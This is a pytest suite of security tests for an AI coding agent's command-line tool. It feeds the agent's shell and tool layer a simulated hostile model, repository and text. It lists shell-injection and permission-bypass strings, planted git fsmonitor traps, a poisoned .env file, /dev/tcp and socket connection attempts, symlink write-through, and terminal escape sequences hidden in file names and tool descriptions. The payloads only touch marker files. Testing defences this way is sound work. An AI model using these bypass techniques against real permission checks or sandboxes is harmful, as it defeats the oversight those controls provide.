"""Attacks from end to end: a hostile model, a hostile repository, hostile text, against the command that people run."""

import os
import re
import socket
import subprocess
import tempfile
import threading
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from command import FIX, PLAN, PLAN_DONE, Ended, User, answered, calls

from goose_py.protocol import events as ev
from goose_py.session.log import read_log

DONE = [{"text": "Done."}] * 8
SCRIPTS = {"x": "#!/bin/sh\ntouch {marker}\ncat\n", "ls": "#!/bin/sh\ntouch {marker}\n"}


@pytest.fixture
def marker():
    """Not in /tmp, which a task has for its own."""
    with tempfile.TemporaryDirectory(dir="/dev/shm" if Path("/dev/shm").is_dir() else None) as folder:
        yield Path(folder) / "p"


def results(user: User, task_id: str) -> list[str]:
    records = read_log(user.state / "tasks" / task_id).records
    return [record.event.result.text() for record in records if isinstance(record.event, ev.ToolFinished)]


def plainly(argv: list[str], cwd: Path, env: dict[str, str] | None = None) -> None:
    """Without us: the controls."""
    subprocess.run(argv, cwd=cwd, env=env, stdin=subprocess.DEVNULL, capture_output=True, check=False)


def attack(number: str, *commands: str):
    return pytest.param(commands, marks=pytest.mark.case(number), id=number)


ATTACKS = [
    attack("A01", "echo $(touch MARKER)", "echo `touch MARKER`", 'echo "$(touch MARKER)"', "cat <(touch MARKER)"),
    attack("A02", "ls && touch MARKER", "ls; touch MARKER", "echo MARKER | xargs touch", "ls & touch MARKER",
           "ls\ntouch MARKER"),
    attack("A05", "find . -name x -exec touch MARKER \\;", "find . -fprintf MARKER x", "find . -fls MARKER"),
    attack("A06", "sed '1e touch MARKER' f", "sed -n 'w MARKER' f", "cat f | sed 'w MARKER'"),
    attack("A07", "git -c alias.x='!touch MARKER' x", "git log --output=MARKER", "git grep -O'touch MARKER; true' a"),
    attack("A08", "rg --pre ./x a", "sort -o MARKER f", "awk 'BEGIN{system(\"touch MARKER\")}'", "uniq f MARKER"),
    attack("A09", "env touch MARKER", "bash -c 'touch MARKER'", "eval 'touch MARKER'", "timeout 5 nice nohup touch MARKER"),
    attack("A10", "$'\\x74ouch' MARKER", 't""ouch MARKER', "touch$IFSMARKER", "{touch,MARKER}"),
    attack("A11", "echo x > MARKER", "echo x >| MARKER", "ls &> MARKER", "cd / && echo x > MARKER"),
    attack("A12", "./ls", "./x"),
]  # fmt: skip


@pytest.mark.parametrize("commands", ATTACKS)
async def test_an_attack_is_refused_where_nobody_can_answer_and_harmless_where_everything_is_allowed(user, marker, commands):
    for name, text in SCRIPTS.items():
        (user.repository / name).write_text(text.replace("{marker}", str(marker)))
        (user.repository / name).chmod(0o755)
    for name in ("f", "a"):
        (user.repository / name).write_text("a line\n")
    user.commit("Ground for attacks")
    real = [command.replace("MARKER", str(marker)) for command in commands]
    turns = [calls(*(("shell", {"command": command}) for command in real)), *DONE]
    async with answered(user, turns):
        refused = await user.goose("run", "-t", "Go", "--mode", "ask", "--output-format", "json")
    assert refused.code == 3 and len(refused.json["denied"]) == len(real), refused
    assert not marker.exists()
    everything = '[[rules]]\nverdict = "allow"\npattern = "tool: *"\n'
    async with answered(user, turns, config=f'mode = "auto"\n{everything}'):
        allowed = await user.goose("run", "-t", "Go", "--output-format", "json", "--sandbox", "full")
    assert not marker.exists(), results(user, allowed.json["session_id"])
    fired = 0
    for command in real:
        env = {"PATH": "/usr/bin:/bin", "HOME": str(user.root)}
        plain = ["/bin/bash", "-c", command]
        plainly(plain, user.repository, env)
        fired += marker.exists()
        marker.unlink(missing_ok=True)
    assert fired == len(real), "every one of them fires without us"


@pytest.mark.case("A03")
async def test_what_is_denied_is_denied_behind_sixty_others_and_a_megabyte_is_refused(user):
    rule = '[[rules]]\nverdict = "deny"\npattern = "curl *"\n'
    commands = ("true && " * 60 + "curl http://127.0.0.1:9", "x" * 1_000_000)
    turns = [calls(*(("shell", {"command": command}) for command in commands)), *DONE]
    async with answered(user, turns, config=f'mode = "auto"\n{rule}'):
        ended = await user.goose("run", "-t", "Go", "--output-format", "json")
    assert ["Not allowed" in text for text in results(user, ended.json["session_id"])] == [True, True], ended


@pytest.mark.case("A04")
async def test_no_state_of_a_shell_lives_on_and_no_variable_of_a_call_changes_the_next(user, marker):
    changes = "cd /tmp; alias ls='touch x'; set -o noclobber; ulimit -n 50; umask 777"
    turns = [
        calls(("shell", {"command": f"export EVIL=1 PATH=.:$PATH; {changes}"})),
        calls(("shell", {"command": "echo [$EVIL] $PWD $PATH; alias; ulimit -n; umask; shopt -o noclobber"})),
        *DONE,
    ]  # fmt: skip
    async with answered(user, turns, config='mode = "auto"'):
        ended = await user.goose("run", "-t", "Go", "--output-format", "json")
    second = results(user, ended.json["session_id"])[1]
    assert second.startswith(f"[] {user.repository} ") and " .:" not in second and "alias" not in second
    assert "\n50\n" not in second and "0777" not in second and "noclobber\toff" in second.replace("      ", "")
    prefixed = (f"PAGER='touch {marker}' git log", f"GIT_EXTERNAL_DIFF='touch {marker}' git diff", "LD_PRELOAD=./x.so ls")
    turns = [calls(*(("shell", {"command": command}) for command in prefixed)), *DONE]
    async with answered(user, turns):
        asked = await user.goose("run", "-t", "Go", "--mode", "ask", "--output-format", "json")
    assert asked.code == 3 and len(asked.json["denied"]) == 3


def plant_monitor(user: User, marker: Path) -> None:
    script = user.root / "monitor"
    script.write_text(f"#!/bin/sh\ntouch {marker}\n")
    script.chmod(0o755)
    for key in ("core.fsmonitor", "core.sshCommand", "core.pager", "diff.external", "core.editor"):
        user.git("config", key, str(script))
    plainly(["git", "status"], user.repository)
    assert marker.exists(), "the trap fires under plain git"
    marker.unlink()


@pytest.mark.case("A19")
async def test_a_monitor_in_a_repositorys_configuration_runs_for_no_command_of_ours_before_or_after_trust(user, marker):
    (user.repository / ".goose").mkdir()
    (user.repository / ".goose" / "config.toml").write_text('context_files = ["AGENTS.md"]\n')
    user.commit("Something to trust")
    plant_monitor(user, marker)
    turns = [calls(PLAN, FIX), calls(PLAN_DONE), *DONE]
    for _ in ("before trust", "after trust"):
        async with answered(user, turns, config='mode = "auto"'):
            ended = await user.goose("run", "-t", "Do it", "--output-format", "json")
        assert ended.code == 0, ended
        task_id = ended.json["session_id"]
        for command in (
            ("task", "list"), ("task", "show", task_id), ("session", "list"), ("session", "show", task_id), ("review", task_id),
            ("doctor",), ("config", "list"), ("permissions", "test", "git status"), ("apply", task_id, "--all", "--yes"),
            ("task", "restore", task_id), ("task", "discard", task_id, "--yes"), ("task", "gc"), (),
        ):  # fmt: skip
            await user.goose(*command)
            assert not marker.exists(), command
        (user.repository / "cart.py").write_text((user.repository / "cart.py").read_text().replace("- discount", "+ discount"))
        assert (await user.goose("trust", "--yes")).code == 0
        assert not marker.exists()


@pytest.mark.case("A20")
@pytest.mark.parametrize("level", ["full", "none"])
async def test_a_worktree_whose_git_pointer_was_changed_is_looked_at_without_running_anything_of_it(user, marker, level):
    script = f"#!/bin/sh\ntouch {marker}\n"
    change = (
        "import os, subprocess\n"
        "try:\n    os.remove('.git')\nexcept OSError as error:\n    print('kept', error)\n"
        "made = 'git init -q . && git config core.fsmonitor ./monitor && git config diff.external ./monitor'\n"
        "subprocess.run(made, shell=True)\n"
    )
    turns = [
        calls(PLAN, ("write", {"path": "monitor", "content": script}), ("write", {"path": "change.py", "content": change})),
        calls(("shell", {"command": "chmod +x monitor && python change.py"})),
        calls(PLAN_DONE),
        *DONE,
    ]
    async with answered(user, turns, config='mode = "auto"'):
        ended = await user.goose("run", "-t", "Do it", "--output-format", "json", "--sandbox", level)
    task_id, workspace = ended.json["session_id"], Path(ended.json["worktree"])
    if level == "full":
        assert (workspace / ".git").is_file(), "in the sandbox the change itself fails"
    else:
        assert (workspace / ".git").is_dir()
        plainly(["git", "status"], workspace)
        assert marker.exists(), "the trap fires under plain git"
        marker.unlink()
    shown = await user.goose("review", task_id)
    assert "change.py" in shown.out, shown
    assert (await user.goose("apply", task_id, "--all", "--yes")).code == 0
    assert (user.repository / "change.py").exists()
    for command in (("task", "show", task_id), ("task", "restore", task_id), ("task", "discard", task_id, "--yes")):
        await user.goose(*command)
    assert not marker.exists()


@pytest.mark.case("A24")
async def test_trust_is_not_lent_and_a_task_cannot_redirect_the_main_repository(user, marker):
    (user.repository / ".goose").mkdir()
    (user.repository / ".goose" / "config.toml").write_text(f'checks = ["touch {marker}"]\n')
    user.commit("Checks")
    assert (await user.goose("trust", "--yes")).code == 0
    spoof = user.root / "spoof"
    (spoof / ".goose").mkdir(parents=True)
    (spoof / ".goose" / "config.toml").write_text(f'checks = ["touch {marker}"]\n')
    (spoof / ".git").write_text(f"gitdir: {user.repository}/.git\n")
    async with answered(user, [calls(PLAN, FIX), calls(PLAN_DONE), *DONE], config='[sandbox]\nlevel = "none"'):
        await user.goose("run", "-t", "Do it", "--base", "head", cwd=spoof)
    assert not marker.exists()
    evil = user.repository / ".git" / "commondir"
    command = f"echo /evil > {evil}; python -c \"open('{evil}', 'w').write('/evil')\"; echo /evil > .git"
    async with answered(user, [calls(("shell", {"command": command})), *DONE], config='mode = "auto"\nchecks = []'):
        ended = await user.goose("run", "-t", "Do it", "--output-format", "json", "--sandbox", "full")
    assert not evil.exists(), ended
    assert (await user.goose("task", "list")).code == 0


@pytest.mark.case("A26")
async def test_an_env_file_of_a_repository_is_not_loaded(user):
    (user.repository / ".env").write_text(
        "GOOSE_PY_HOME=./.app\nGOOSE_PY_MODE=auto\nANTHROPIC_BASE_URL=http://127.0.0.1:9\nOPENAI_BASE_URL=http://127.0.0.1:9\n"
        "HTTP_PROXY=http://127.0.0.1:9\nHTTPS_PROXY=http://127.0.0.1:9\nPATH=./bin:/usr/bin\n"
    )
    (user.repository / "bin").mkdir()
    (user.repository / "bin" / "git").write_text(f"#!/bin/sh\ntouch {user.root}/planted\n")
    (user.repository / "bin" / "git").chmod(0o755)
    user.commit("Helpful settings")
    async with answered(user, [calls(("shell", {"command": "unheard-of"})), *DONE]) as server:
        ended = await user.goose("run", "-t", "Go", "--output-format", "json")
    assert len(server.requests) == ended.json["requests"] > 0
    assert not (user.repository / ".app").exists() and not (user.root / "planted").exists()


@pytest.mark.case("A27")
async def test_a_configuration_that_a_task_makes_has_no_effect_on_it(user, marker):
    text = (
        f'mode = "auto"\nchecks = ["touch {marker}"]\n'
        f'[extensions.evil]\ntype = "stdio"\ncmd = "touch"\nargs = ["{marker}"]\n'
    )
    assert (await user.goose("trust", "--yes")).code == 0
    turns = [
        calls(PLAN, ("write", {"path": ".goose/config.toml", "content": text})),
        calls(("shell", {"command": f"mkdir -p .goose && cat > .goose/config.toml <<'EOF'\n{text}EOF"}), PLAN_DONE),
        *DONE,
    ]
    async with answered(user, [*turns, *DONE], config='mode = "auto"\n[sandbox]\nlevel = "none"'):
        ended = await user.goose("run", "-t", "Do it", "--output-format", "json")
        first = results(user, ended.json["session_id"])
        assert any("protected" in text for text in first), first
        again = await user.goose("run", "--resume", ended.json["session_id"], "-t", "Go on", "--output-format", "json")
    assert again.json["checks"] == [] and not marker.exists(), again


ESCAPES = {
    "clipboard": "\x1b]52;c;T1dORUQ=\x1b\\", "link": "\x1b]8;;file:///etc\x1b\\x\x1b]8;;\x1b\\", "title": "\x1b]0;owned\x07",
    "clear": "\x1b[2J", "report": "\x1b[6n", "device": "\x1bP$qm\x1b\\", "c1": "\u009b31m", "return": "a\rb", "back": "a\bb",
    "bidi": "a\u202eb", "tag": "a\U000e0041b", "zero": "a\u200bb",
}  # fmt: skip
HOSTILE = " ".join(ESCAPES.values())
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e\U000e0041]")
LISTING_SERVER = """\
import sys
from mcp.server import MCPServer
server = MCPServer("hostile", version="1", instructions={hostile!r})
@server.tool(description={hostile!r})
async def tool(text: str = {hostile!r}) -> str:
    print({hostile!r}, file=sys.stderr, flush=True)
    raise ValueError({hostile!r})
server.run("stdio")
"""


@asynccontextmanager
async def hostile(user: User):
    """Everything that somebody else may name says what a terminal would obey: files, a branch, a tool, replies, an error."""
    name = f"file{ESCAPES['title'].replace('/', '')}{ESCAPES['bidi']}.py"
    (user.repository / name).write_text("x = 1\n")
    (user.repository / "server.py").write_text(LISTING_SERVER.format(hostile=HOSTILE))
    (user.repository / "AGENTS.md").write_text(f"Be kind.\nRead this: {ESCAPES['tag']}\n")
    user.commit(f"Hostile {HOSTILE}")
    user.git("checkout", "-q", "-b", f"branch-{ESCAPES['c1']}{ESCAPES['bidi']}")
    config = '[extensions.hostile]\ntype = "stdio"\ncmd = "python"\nargs = ["server.py"]\n'
    turns = [
        calls(PLAN, ("write", {"path": name, "content": f"{HOSTILE}\n"}), text=HOSTILE),
        calls(("shell", {"command": f"cat '{name}'; printf '\\033]0;owned\\007'"}), ("hostile__tool", {})),
        calls(("unheard" + HOSTILE, {}), ("shell", {"command": f"nosuch '{HOSTILE}'; git reset --hard"})),
        calls(("update_plan", {"steps": [{"title": HOSTILE, "status": "completed"}]})),
        *([{"text": HOSTILE}] * 3),
        {"error": {"status": 400, "message": HOSTILE}},
    ]
    async with answered(user, turns, config=f'mode = "auto"\n{config}'):
        yield


def leaks(seen: dict[str, Ended]) -> dict[str, list[str]]:
    """What acts on a terminal in the output of each command."""
    found = {name: ACTS.findall(ended.out + ended.err)[:5] for name, ended in seen.items()}
    return {name: acts for name, acts in found.items() if acts}


@pytest.mark.case("A34")
@pytest.mark.case("A35")
@pytest.mark.parametrize("output", ["text", "json", "stream-json"])
async def test_no_byte_that_a_terminal_obeys_reaches_the_output_of_a_run(user, output):
    async with hostile(user):
        ended = await user.goose("run", "-t", f"Do it {HOSTILE}", "--output-format", output)
        failed = await user.goose("run", "--resume", _last(user), "-t", HOSTILE, "--output-format", output)
    assert "owned" in ended.out + ended.err and "owned" in failed.out + failed.err
    assert leaks({"run": ended, "resume": failed}) == {}
    records = read_log(user.state / "tasks" / _last(user)).records
    warned = [record.event.text for record in records if isinstance(record.event, ev.Warned)]
    assert any("AGENTS.md:2: invisible character \\u{e0041} in column 13" in text for text in warned), warned


@pytest.mark.case("A34")
@pytest.mark.case("A35")
async def test_no_byte_that_a_terminal_obeys_reaches_the_output_of_any_command(user):
    async with hostile(user):
        await user.goose("run", "-t", f"Do it {HOSTILE}")
    task_id = _last(user)
    seen = {}
    for command in (
        ("review", task_id), ("review", task_id, "--json"), ("task", "list"), ("task", "show", task_id), ("session", "list"),
        ("session", "show", task_id), ("session", "export", task_id), ("session", "search", "owned"), ("doctor",),
        ("apply", task_id, "--all", "--yes"), ("cost",), ("task", "show", HOSTILE), ("permissions", "test", HOSTILE),
        ("task", "start", HOSTILE, "--model", HOSTILE),
        ("run", "recipe", HOSTILE), ("models", "list"), ("no" + HOSTILE,), ("run", "--base", HOSTILE, "-t", "x"),
        ("task", "discard", task_id, "--yes"), ("task", "gc"),
    ):  # fmt: skip
        seen[" ".join(command)[:40]] = await user.goose(*command)
    assert leaks(seen) == {}
    for name in ("review", "task list", "task show", "session list", "session show", "session export", "session search"):
        assert any("owned" in ended.out for command, ended in seen.items() if command.startswith(name)), name


def _last(user: User) -> str:
    return max((path for path in (user.state / "tasks").iterdir()), key=lambda path: path.stat().st_mtime).name


@pytest.mark.case("A34")
async def test_raw_output_is_raw_only_when_it_was_asked_for(user):
    async with answered(user, [{"text": ESCAPES["title"]}]):
        safe = await user.goose("run", "-t", "Say it")
    async with answered(user, [{"text": ESCAPES["title"]}]):
        raw = await user.goose("run", "-t", "Say it", "--raw")
    assert "\x1b" not in safe.out and "\\x1b]0;owned\\x07" in safe.out
    assert ESCAPES["title"] in raw.out


@pytest.mark.case("A40")
async def test_nothing_inside_reaches_the_network_or_a_socket_and_the_model_is_told_that_this_is_policy(user):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        port = listener.getsockname()[1]
        docker = user.root / "docker.sock"
        local = socket.socket(socket.AF_UNIX)
        here = os.open(user.root, os.O_RDONLY)
        local.bind(f"/proc/self/fd/{here}/docker.sock")
        local.listen()
        commands = (
            f"python -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\"",
            f"exec 3<>/dev/tcp/127.0.0.1/{port}",
            "getent hosts $(whoami).e.com || { echo could not resolve host >&2; false; }",
            f"python -c \"import socket; socket.socket(socket.AF_UNIX).connect('{docker}')\"",
            "python -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('8.8.8.8', 53))\"",
        )
        turns = [calls(*(("shell", {"command": command}) for command in commands)), *DONE]
        async with answered(user, turns, config='mode = "auto"\n[sandbox]\nallow_hosts = []'):
            ended = await user.goose("run", "-t", "Go", "--output-format", "json", "--sandbox", "full")
        said = results(user, ended.json["session_id"])
        assert len(said) == len(commands) and all("[exit code 0]" not in text for text in said), said
        assert all("[policy: commands have no network here" in text for text in (said[0], said[2], said[4])), said
        with pytest.raises(TimeoutError):
            listener.accept()
        local.setblocking(False)
        with pytest.raises(BlockingIOError):
            local.accept()
        # The control: without us each of them gets through.
        plainly(["/bin/bash", "-c", commands[0]], user.repository, user.environment())
        listener.accept()[0].close()
        local.close()
        os.close(here)


@pytest.mark.case("A40")
async def test_an_allowed_host_is_reached_and_every_other_one_is_refused_as_policy(user):
    fetch = (
        "python -c \"import os, urllib.request as u; [os.environ.pop(n, 0) for n in ('no_proxy', 'NO_PROXY')];"
        " print(u.urlopen('http://{where}/', timeout=5).status)\""
    )
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        there = fetch.format(where=f"127.0.0.1:{port}")
        turns = [calls(("shell", {"command": there}), ("shell", {"command": fetch.format(where="example.com")})), *DONE]
        answering = threading.Thread(target=_answer_once, args=(listener,), daemon=True)
        answering.start()
        settings = f'mode = "auto"\n[sandbox]\nallow_hosts = ["127.0.0.1:{port}"]'
        async with answered(user, turns, config=settings):
            ended = await user.goose("run", "-t", "Go", "--output-format", "json", "--sandbox", "full")
        answering.join(5)
    first, second = results(user, ended.json["session_id"])
    assert first == "200\n[exit code 0]", first
    assert "403" in second and f"[policy: commands reach only these hosts here: 127.0.0.1:{port}" in second, second
    assert any("example.com:80" in warning for warning in ended.json["warnings"])
    user.configure('provider = "lmstudio"\nmodel = "m"\n[sandbox]\nallow_hosts = ["*.example.com"]\n')
    wrong = await user.goose("run", "-t", "Go")
    assert wrong.code != 0 and "is no host" in wrong.err and "Traceback" not in wrong.err, wrong


def _answer_once(listener: socket.socket) -> None:
    connection, _ = listener.accept()
    with connection:
        connection.recv(4096)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


async def test_a_link_planted_among_our_logs_is_not_written_through(user):
    """A server's error output and a large result are written by us, outside of the sandbox."""
    victim = user.root / "home" / "victim"
    victim.parent.mkdir(exist_ok=True)
    victim.write_text("untouched")
    (user.repository / "server.py").write_text(
        "import sys\nfrom mcp.server import MCPServer\nserver = MCPServer('noisy', version='1')\n"
        "@server.tool()\nasync def noise() -> str:\n    'Noise.'\n    print('evil', file=sys.stderr, flush=True)\n"
        "    return 'evil ' * 50_000\nserver.run('stdio')\n"
    )
    user.commit("A noisy server")
    plant = f"cd {user.state}/tasks/*/logs && ln -sf {victim} noisy.log; ln -s {victim} x; echo planted > new"
    turns = [
        calls(PLAN, ("shell", {"command": plant})),
        calls(("noisy__noise", {})),
        calls(PLAN_DONE),
        *DONE,
    ]
    config = 'mode = "auto"\n[extensions.noisy]\ntype = "stdio"\ncmd = "python"\nargs = ["server.py"]\n'
    async with answered(user, turns, config=config):
        ended = await user.goose("run", "-t", "Go", "--output-format", "json", "--sandbox", "full")
    logs = user.state / "tasks" / ended.json["session_id"] / "logs"
    assert any("Read-only file system" in text for text in results(user, ended.json["session_id"]))
    assert not any(path.is_symlink() for path in logs.iterdir()) and not (logs / "new").exists()
    assert victim.read_text() == "untouched"
    assert "evil" in (logs / "noisy.log").read_text()


async def test_a_task_id_that_is_a_path_leads_nowhere(user):
    (user.root / "home" / "state" / "tasks").mkdir(parents=True)
    for name in ("../../etc", "/etc", "..", ".", "a/b", "", "*"):
        for command in (("task", "show"), ("task", "discard", "--yes"), ("session", "export"), ("review",)):
            ended = await user.goose(*command, "--", name)
            assert ended.code == 2 and "Traceback" not in ended.err, (command, name, ended)
    assert user.repository.exists()
